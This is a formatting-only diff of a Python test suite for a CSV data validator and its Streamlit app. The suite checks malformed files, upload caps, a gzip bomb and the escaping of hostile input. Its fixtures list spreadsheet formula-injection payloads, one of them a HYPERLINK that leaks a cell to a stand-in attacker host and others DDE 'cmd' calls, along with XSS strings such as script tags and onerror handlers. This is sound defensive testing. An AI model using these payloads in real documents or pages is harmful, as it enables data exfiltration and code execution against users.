@@ -30,9 +30,9 @@ CORPUS = Path(__file__).resolve().parent / "bad_inputs"
 @dataclass(frozen=True)
 class Case:
     file: str
-    kind: str                 # "gold" (load_pairs, role train) or "unlabeled" (load_unlabeled, role unlabeled)
-    expect: str | None        # regex the message must match after the file name; None = the file loads
-    warn: str | None = None   # for files that load: a regex one warning must match (None = no warning needed)
+    kind: str  # "gold" (load_pairs, role train) or "unlabeled" (load_unlabeled, role unlabeled)
+    expect: str | None  # regex the message must match after the file name; None = the file loads
+    warn: str | None = None  # for files that load: a regex one warning must match (None = no warning needed)
     scale: tuple[float, float] | None = None
 
     @property
@@ -59,7 +59,9 @@ CASES: list[Case] = [
     Case("whitespace_sentence.csv", G, r", row 4, column 'sentence2': sentence2 is empty \(whitespace only\)"),
     Case("nan_score.csv", G, r", row 2, column 'score': score is not a finite number: 'NaN'"),
     Case("non_numeric_score.csv", G, r", row 3, column 'score': score is not a number: 'high'"),
-    Case("decimal_comma_score.csv", G, r", row 2, column 'score': score is not a number: '4,5' \(use '\.' as the decimal"),
+    Case(
+        "decimal_comma_score.csv", G, r", row 2, column 'score': score is not a number: '4,5' \(use '\.' as the decimal"
+    ),
     Case("infinite_score.csv", G, r", row 5, column 'score': score is not a finite number: 'inf'"),
     Case("missing_score_cell.csv", G, r", row 3, column 'score': score is empty"),
     Case("score_out_of_scale.csv", G, r", column 'score': scores range 0\.\.7\.5; pass scale="),
@@ -67,7 +69,11 @@ CASES: list[Case] = [
     Case("negative_score.csv", G, r", column 'score': scores range -1\.\.5; pass scale="),
     Case("mixed_binary_and_float_labels.csv", G, r", row 3, column 'is_duplicate': labels must be 0/1, found 0\.5"),
     # bytes and encodings
-    Case("latin1_bytes.csv", G, r", row 3, column 'sentence1': byte 0xe9 at byte offset \d+ \(line 4\) is not valid UTF-8"),
+    Case(
+        "latin1_bytes.csv",
+        G,
+        r", row 3, column 'sentence1': byte 0xe9 at byte offset \d+ \(line 4\) is not valid UTF-8",
+    ),
     Case("utf16.csv", G, r": is not CSV text: it is UTF-16 encoded; save it as UTF-8"),
     Case("binary_renamed.csv", G, r": is not CSV text: it contains NUL bytes"),
     Case("xlsx_renamed.csv", G, r": is not CSV text: it looks like a ZIP archive or an Excel workbook"),
@@ -98,10 +104,17 @@ CASES: list[Case] = [
     Case("html_script.csv", U, None),
 ]
 HOSTILE_TEXT = {  # cells of the hostile-but-valid files that must come back verbatim
-    "formula_injection.csv": ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+cmd|' /C calc'!A0",
-                              "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
-    "html_script.csv": ["<script>alert('xss')</script>", '<img src=x onerror="alert(1)">',
-                        "**bold** [click](javascript:alert(1)) `code` $x^2$"],
+    "formula_injection.csv": [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+    ],
+    "html_script.csv": [
+        "<script>alert('xss')</script>",
+        '<img src=x onerror="alert(1)">',
+        "**bold** [click](javascript:alert(1)) `code` $x^2$",
+    ],
 }
 
 
@@ -155,7 +168,7 @@ def test_formula_cells_are_neutralised_in_exports():
     for cell in safe["sentence1"]:
         assert cell.startswith("'") and cell[1] in "=+-@"
     assert safe["sentence2"].tolist() == frame["sentence2"].tolist()  # harmless cells unchanged
-    assert safe["label"].tolist() == frame["label"].tolist()          # numbers unchanged
+    assert safe["label"].tolist() == frame["label"].tolist()  # numbers unchanged
     csv_text = safe.to_csv(index=False)
     assert not re.search(r'(^|,)"?[=+@-]', csv_text.split("\n", 1)[1], re.M), "no cell starts a formula"
 
@@ -196,8 +209,15 @@ def cli_results() -> dict[str, dict]:
     """`augsbert validate` on every case, batched: one interpreter calls the CLI's `main` (what
     `python -m augsbert_core` runs) once per file, so the suite pays the ~1.5 s of imports once."""
     argvs = [_argv(CORPUS / c.file, c) for c in CASES]
-    proc = subprocess.run([sys.executable, "-c", _DRIVER], input=json.dumps(argvs), capture_output=True, text=True,
-                          cwd=ROOT, env=_env(), timeout=300)
+    proc = subprocess.run(
+        [sys.executable, "-c", _DRIVER],
+        input=json.dumps(argvs),
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env=_env(),
+        timeout=300,
+    )
     assert proc.returncode == 0, proc.stderr[-3000:]
     return {" ".join(r["argv"]): r for r in json.loads(proc.stdout)}
 
@@ -217,16 +237,29 @@ def test_cli_validate(case: Case, cli_results):
     assert result["code"] == 2, result
     first = result["stderr"].splitlines()[0]
     assert first.startswith("error: ")
-    _check_message(first[len("error: "):], str(path), case)
+    _check_message(first[len("error: ") :], str(path), case)
 
 
-@pytest.mark.parametrize("name, kind, code", [("nan_score.csv", G, 2), ("truncated.csv.gz", G, 2),
-                                              ("unlabeled_blank_line.txt", U, 2), ("html_script.csv", G, 0)])
+@pytest.mark.parametrize(
+    "name, kind, code",
+    [
+        ("nan_score.csv", G, 2),
+        ("truncated.csv.gz", G, 2),
+        ("unlabeled_blank_line.txt", U, 2),
+        ("html_script.csv", G, 0),
+    ],
+)
 def test_cli_validate_real_process(name, kind, code, cli_results):
     """`python -m augsbert_core validate` itself (a few files; the batch above covers the rest the same way)."""
     path = CORPUS / name
-    proc = subprocess.run([sys.executable, "-m", "augsbert_core", "validate", str(path), "--kind", kind],
-                          capture_output=True, text=True, cwd=ROOT, env=_env(), timeout=120)
+    proc = subprocess.run(
+        [sys.executable, "-m", "augsbert_core", "validate", str(path), "--kind", kind],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env=_env(),
+        timeout=120,
+    )
     assert proc.returncode == code
     assert "Traceback" not in proc.stderr
     batched = cli_results[" ".join(["validate", str(path), "--kind", kind])]
@@ -234,12 +267,20 @@ def test_cli_validate_real_process(name, kind, code, cli_results):
 
 
 def test_cli_json_errors_are_one_line_per_problem():
-    proc = subprocess.run([sys.executable, "-m", "augsbert_core", "validate", str(CORPUS / "misnamed_columns.csv")],
-                          capture_output=True, text=True, cwd=ROOT, env=_env(), timeout=120)
+    proc = subprocess.run(
+        [sys.executable, "-m", "augsbert_core", "validate", str(CORPUS / "misnamed_columns.csv")],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env=_env(),
+        timeout=120,
+    )
     assert proc.returncode == 2
     lines = proc.stderr.splitlines()
     assert len(lines) == 3 and all("misnamed_columns.csv" in line for line in lines)
-    assert {"'sentence1'", "'sentence2'", "'score' or 'label'"} <= {m for m in re.findall(r"'[^']+'(?: or '[^']+')?", proc.stderr)}
+    assert {"'sentence1'", "'sentence2'", "'score' or 'label'"} <= {
+        m for m in re.findall(r"'[^']+'(?: or '[^']+')?", proc.stderr)
+    }
 
 
 # ------------------------------------------------------------------------------------- (c) the upload path
@@ -255,8 +296,10 @@ def ws(tmp_path, monkeypatch):
 
 
 def listing(root: Path) -> dict[str, tuple[int, int]]:
-    return {str(p.relative_to(root)): (p.stat().st_size, p.stat().st_mtime_ns) if p.is_file() else (-1, 0)
-            for p in sorted(root.rglob("*"))}
+    return {
+        str(p.relative_to(root)): (p.stat().st_size, p.stat().st_mtime_ns) if p.is_file() else (-1, 0)
+        for p in sorted(root.rglob("*"))
+    }
 
 
 def upload(workspace, role: str, name: str, payload: bytes, scale=None):
@@ -313,8 +356,14 @@ def _everywhere(path: Path, kind: str, ws) -> list[str]:
     with pytest.raises(DataError) as info:
         _load(path, case)
     messages.append(str(info.value))
-    proc = subprocess.run([sys.executable, "-m", "augsbert_core", "validate", str(path), "--kind", kind],
-                          capture_output=True, text=True, cwd=ROOT, env=_env(), timeout=120)
+    proc = subprocess.run(
+        [sys.executable, "-m", "augsbert_core", "validate", str(path), "--kind", kind],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env=_env(),
+        timeout=120,
+    )
     assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
     messages.append(proc.stderr.splitlines()[0].removeprefix("error: "))
     before = listing(ws.home())
@@ -348,7 +397,9 @@ def test_upload_cap_and_gzip_bomb_are_refused_before_parsing(tmp_path, ws, monke
     big = b"sentence1,sentence2,score\n" + b"a,b,1\n" * 300_000  # 1.8 MB
     before = listing(ws.home())
     error, _ = upload(ws, "train", "big.csv", big)
-    assert re.search(r"^big\.csv: the file is 1\.7 MB; uploads are limited to 1\.0 MB \(server\.maxUploadSize", str(error))
+    assert re.search(
+        r"^big\.csv: the file is 1\.7 MB; uploads are limited to 1\.0 MB \(server\.maxUploadSize", str(error)
+    )
     bomb = gzip.compress(b"sentence1,sentence2,score\n" + b"0" * 50_000_000, compresslevel=9)  # 50 KB -> 50 MB
     assert len(bomb) < 100_000
     error, _ = upload(ws, "train", "bomb.csv.gz", bomb)
@@ -367,7 +418,9 @@ def test_app_shows_hostile_cells_as_text(ws, monkeypatch):
     monkeypatch.setenv("AUGSBERT_DEVICE_LABEL", "CPU (test)")
     monkeypatch.chdir(ROOT)
     for name in ("html_script.csv", "formula_injection.csv"):
-        assert upload(ws, "train" if name == "html_script.csv" else "test", name, (CORPUS / name).read_bytes())[0] is None
+        assert (
+            upload(ws, "train" if name == "html_script.csv" else "test", name, (CORPUS / name).read_bytes())[0] is None
+        )
     assert upload(ws, "dev", "dup<b>.csv", (CORPUS / "duplicate_pairs.csv").read_bytes())[0] is None
     at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
     at.switch_page("app_pages/data.py").run()
@@ -391,9 +444,19 @@ def test_error_box_escapes_the_upload_text():
         from augsbert_core.data import DataError, Problem
         from studio import ui
 
-        ui.data_error(DataError([Problem("<img src=x onerror=alert(1)>.csv", 2, "score",
-                                         "score is not a number: '[click](javascript:alert(1)) **x**'")]),
-                      "<img src=x onerror=alert(1)>.csv")
+        ui.data_error(
+            DataError(
+                [
+                    Problem(
+                        "<img src=x onerror=alert(1)>.csv",
+                        2,
+                        "score",
+                        "score is not a number: '[click](javascript:alert(1)) **x**'",
+                    )
+                ]
+            ),
+            "<img src=x onerror=alert(1)>.csv",
+        )
 
     at = AppTest.from_function(page, default_timeout=30).run()
     assert not at.exception
